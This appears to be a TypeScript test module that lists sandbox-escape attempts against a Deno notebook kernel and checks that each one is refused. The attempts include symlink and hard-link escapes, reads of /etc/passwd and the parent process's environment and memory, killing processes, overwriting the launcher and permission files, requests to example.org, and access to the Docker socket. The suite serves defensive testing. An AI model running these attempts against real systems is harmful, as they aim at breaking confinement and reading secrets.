import { join } from "@std/path";
import { wasi } from "../wasi_links.ts";
import { cache, launcher, main, project, secretPath } from "./place.ts";

export interface Attack {
  readonly name: string;
  /** Body of an async function; gives what it got as text. */
  readonly body: string;
  /** Says why the attack was not held; `null` if it was. */
  readonly broken?: (text: string) => string | null;
}

/** Tries each and gives what came of it. */
const tryAll = (...attempts: string[]) =>
  `const said = [];
   for (const attempt of [${
    attempts.map((code) => `async () => ${code}`).join(", ")
  }]) {
     const late = new Promise((_, failed) => setTimeout(() => failed({ name: "as nothing came" }), 3000));
     try { said.push("GOT " + String(await Promise.race([attempt(), late])).slice(0, 200)); }
     catch (error) { said.push("refused " + error.name); }
   }
   return said.join("; ");`;

const nothingGot = (text: string) =>
  /GOT|worker failed: (?!Uncaught NotCapable)/.test(text) ||
    !/refused|NotCapable/.test(text)
    ? `it got something: ${text}`
    : null;

export const attacks: Attack[] = [
  {
    name: "a symbolic link made with node:wasi, to read another folder",
    body: `${wasi}
      const code = symlink("../secret.txt", "way");
      const code2 = symlink(${secretPath}, "way2");
      return code + " " + code2 + " " + await Deno.readTextFile("way").catch((e) => e.name) + " " + openPath("way", 0)`,
    broken: (text) => /^['"]?0 |the secret/.test(text) ? text : null,
  },
  {
    name: "the same to write there",
    body: `${wasi}
      symlink("../secret.txt", "way3");
      return await Deno.writeTextFile("way3", "changed").then(() => "written", (e) => e.name)`,
  },
  {
    name: "a link to the kernel's launcher, to run with its permissions",
    body: `${wasi}
      const said = [];
      for (const target of ${
      JSON.stringify([launcher, main, join(cache, "gen")])
    }) {
        said.push(symlink(target, "launcher" + said.length));
        try { Deno.openSync("launcher" + (said.length - 1), { append: true }).close(); said.push("OPENED"); }
        catch { /* refused */ }
      }
      return said.join(" ")`,
    broken: (text) => /OPENED|\b0\b/.test(text) ? text : null,
  },
  {
    name: "hard links, by node:wasi and by name",
    body: `${wasi}
      await Deno.writeTextFile("mine.txt", "");
      const code = hardLink("mine.txt", "hard.txt");
      ${
      tryAll(
        `Deno.linkSync(${secretPath}, "hard2.txt")`,
        `(await import("node:fs")).linkSync("mine.txt", "hard3.txt")`,
      )
    }`,
    broken: nothingGot,
  },
  {
    name: "reading outside by every name of it",
    body: tryAll(
      `Deno.readTextFile(${secretPath})`,
      `Deno.readTextFile("../secret.txt")`,
      `Deno.readTextFile("/proc/self/root" + ${secretPath})`,
      `Deno.readTextFile("/proc/self/cwd/../secret.txt")`,
      `(await import("node:fs")).readFileSync(${secretPath}, "utf8")`,
      `import("data:text/javascript,export default 1").then(() => import("file://" + ${secretPath}, { with: { type: "text" } }))`,
      `fetch("file://" + ${secretPath}).then((r) => r.text())`,
      `Deno.readTextFile("/etc/passwd")`,
    ),
    broken: nothingGot,
  },
  {
    name: "the kernel's own process: its memory, its environment, signals",
    body: tryAll(
      `Deno.readTextFile("/proc/" + Deno.ppid + "/environ")`,
      `Deno.open("/proc/" + Deno.ppid + "/mem", { write: true, read: true })`,
      `Deno.kill(Deno.ppid, "SIGKILL")`,
      `process.kill(Deno.ppid, "SIGKILL")`,
      `(await import("node:process")).kill(1, "SIGTERM")`,
    ),
    broken: nothingGot,
  },
  {
    name: "writing the library, the settings, the compiled code of the cache",
    body: tryAll(
      `Deno.writeTextFile(${JSON.stringify(join(project, "lib/new.ts"))}, "")`,
      `Deno.open(${JSON.stringify(launcher)}, { append: true })`,
      `Deno.writeTextFile(${
        JSON.stringify(join(project, "notebook_permissions.json"))
      }, "{}")`,
      `Deno.writeTextFile("notebook_permissions.json", "{}")`,
      `Deno.writeTextFile(${JSON.stringify(join(cache, "gen/new.js"))}, "")`,
      `Deno.rename(${JSON.stringify(join(project, "lib"))}, "lib")`,
    ),
    broken: nothingGot,
  },
  {
    name: "words to the network: registry, hosts, sockets, names",
    body: tryAll(
      `import("npm:x-" + "secret")`,
      `import("npm:@x-secret/y@1.0.0")`,
      `import("jsr:@x/secret")`,
      `import("https://example.org/secret.ts")`,
      `fetch("http://example.org/secret")`,
      `new Promise((done, failed) => { const s = new WebSocket("ws://example.org/secret"); s.onopen = done; s.onerror = () => failed(new Error("no socket")); })`,
      `Deno.connect({ hostname: "127.0.0.1", port: 9 })`,
      `Deno.connect({ transport: "unix", path: "/var/run/docker.sock" })`,
      `Deno.resolveDns("secret.example.org", "A")`,
      `(await import("node:dns/promises")).lookup("secret.example.org")`,
      `new Promise((done, failed) => import("node:dgram").then(({ createSocket }) => { const s = createSocket("udp4"); s.on("error", failed); s.send("secret", 9, "127.0.0.1", (e) => e ? failed(e) : done(1)); }, failed))`,
      `Deno.listen({ port: 0 })`,
      `Promise.resolve(Deno.createHttpClient).then((create) => create({ proxy: { url: "http://127.0.0.1:9" } })).then((client) => fetch("http://example.org", { client }))`,
    ),
    broken: nothingGot,
  },
  {
    name: "storage that is kept past the notebook: localStorage, caches, KV",
    body: tryAll(
      `localStorage.setItem("mine", "x".repeat(1e6)) ?? localStorage.length`,
      `caches.open("mine").then((c) => c.put("http://a/b", new Response("x".repeat(1e6)))).then(() => caches.has("mine"))`,
      `Deno.openKv().then((kv) => kv.set(["a"], 1))`,
      `(await import("node:sqlite")).DatabaseSync && new (await import("node:sqlite")).DatabaseSync("/tmp/fringebook-attack.db").exec("create table a(b)")`,
    ),
    broken: nothingGot,
  },
  {
    name: "programs, libraries, environment, facts of the machine, inspector",
    body: tryAll(
      `new Deno.Command("ls").output()`,
      `new Promise((done, failed) => import("node:child_process").then(({ spawn }) => spawn("ls").on("error", failed).on("exit", done), failed))`,
      `Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } })`,
      // In a worker it is as if it were not there.
      `Deno.env.get("HOME") ?? Promise.reject(new Error("nothing there"))`,
      `Deno.hostname()`,
      `(await import("node:inspector")).open(0)`,
    ),
    broken: nothingGot,
  },
];
